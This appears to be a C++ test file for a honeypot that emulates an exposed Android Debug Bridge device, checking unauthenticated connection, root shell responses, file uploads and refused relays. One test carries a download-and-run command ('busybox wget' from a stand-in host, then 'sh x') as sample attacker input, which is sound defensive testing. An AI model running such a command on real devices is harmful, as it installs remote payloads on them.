#include <gtest/gtest.h>

#include "client.hpp"
#include "scripts.hpp"

namespace nightjar {
namespace {

using test::adb_message;
using test::Client;

const std::string kZero(1, '\0');
const std::string kHello = adb_message("CNXN", 0x01000000, 0x00100000, "host::" + kZero);

/// Messages in the order in which they came, "WRTE 1 9 text".
std::vector<std::string> messages(std::string_view said) {
  std::vector<std::string> all;
  const auto number = [&](std::size_t at) {
    std::uint32_t value = 0;
    for (std::size_t i = 4; i-- > 0;) value = value << 8 | static_cast<std::uint8_t>(said[at + i]);
    return value;
  };
  while (said.size() >= 24) {
    const std::uint32_t length = number(12);
    if (length > said.size() - 24 || (number(20) ^ number(0)) != 0xffffffff) break;
    std::string text(said.substr(0, 4));
    text += " " + std::to_string(number(4)) + " " + std::to_string(number(8)) + " ";
    all.push_back(text.append(said.substr(24, length)));
    said.remove_prefix(24 + length);
  }
  EXPECT_TRUE(said.empty()) << "what is left is no message";
  return all;
}

TEST(Adb, ConnectsWithoutAKey) {
  const auto said = messages(Client(5555).ask(kHello));
  ASSERT_EQ(said.size(), 1U);
  EXPECT_TRUE(said[0].starts_with("CNXN 16777216 4096 device::ro.product.name=")) << said[0];
}

TEST(Adb, RunsACommandAsItSeems) {
  Client client(5555);
  client.say(kHello);
  const auto said =
      messages(client.say(adb_message("OPEN", 9, 0, "shell:cd /data/local/tmp; busybox wget http://198.51.100.7/x; sh x; id" + kZero)));
  ASSERT_EQ(said.size(), 3U);
  EXPECT_EQ(said[0], "OKAY 1 9 ");
  EXPECT_TRUE(said[1].starts_with("WRTE 1 9 Connecting to 198.51.100.7")) << said[1];
  EXPECT_TRUE(said[1].ends_with("uid=0(root) gid=0(root)\n")) << said[1];
  EXPECT_EQ(said[2], "CLSE 1 9 ");
}

TEST(Adb, ShellOfLines) {
  Client client(5555);
  client.say(kHello);
  const auto opened = messages(client.say(adb_message("OPEN", 3, 0, "shell:" + kZero)));
  ASSERT_EQ(opened.size(), 2U);
  EXPECT_TRUE(opened[1].ends_with("# "));
  const auto said = messages(client.say(adb_message("WRTE", 3, 1, "whoami\n")));
  ASSERT_EQ(said.size(), 2U);
  EXPECT_EQ(said[0], "OKAY 1 3 ");
  EXPECT_NE(said[1].find("\nroot\n"), std::string::npos);
}

/// The bytes of the file are in what the client sent; nothing is kept here.
TEST(Adb, TakesAFile) {
  Client client(5555);
  client.say(kHello);
  client.say(adb_message("OPEN", 5, 0, "sync:" + kZero));
  const auto looked = messages(client.say(adb_message("WRTE", 5, 1, "STAT" + test::from_hex("13000000") + "/data/local/tmp/a.x")));
  ASSERT_EQ(looked.size(), 2U);
  EXPECT_EQ(looked[1], "WRTE 1 5 STAT" + std::string(12, '\0'));
  EXPECT_EQ(
      messages(client.say(adb_message(
                   "WRTE", 5, 1, "SEND" + test::from_hex("17000000") + "/data/local/tmp/a.x,511" + "DATA" + test::from_hex("00100000"))))
          .size(),
      1U);
  EXPECT_EQ(messages(client.say(adb_message("WRTE", 5, 1, std::string(4'096, 'x')))).size(), 1U);
  const auto done = messages(client.say(adb_message("WRTE", 5, 1, "DONE" + test::from_hex("00000000"))));
  ASSERT_EQ(done.size(), 2U);
  EXPECT_EQ(done[1], "WRTE 1 5 OKAY" + std::string(4, '\0'));
  const auto over = messages(client.say(adb_message("WRTE", 5, 1, "QUIT" + test::from_hex("00000000"))));
  ASSERT_EQ(over.size(), 2U) << "or adb of Debian waits for ever";
  EXPECT_EQ(over[1], "CLSE 1 5 ");
}

TEST(Adb, OtherServicesAreClosed) {
  Client client(5555);
  client.say(kHello);
  EXPECT_EQ(messages(client.say(adb_message("OPEN", 7, 0, "tcp:198.51.100.7:80" + kZero))), (std::vector<std::string>{"CLSE 0 7 "}))
      << "nobody's relay";
}

TEST(Adb, WrongMagicEndsIt) {
  Client client(5555);
  std::string message = kHello;
  message[20] = 'x';
  client.say(message);
  EXPECT_TRUE(client.closed());
}

}  // namespace
}  // namespace nightjar
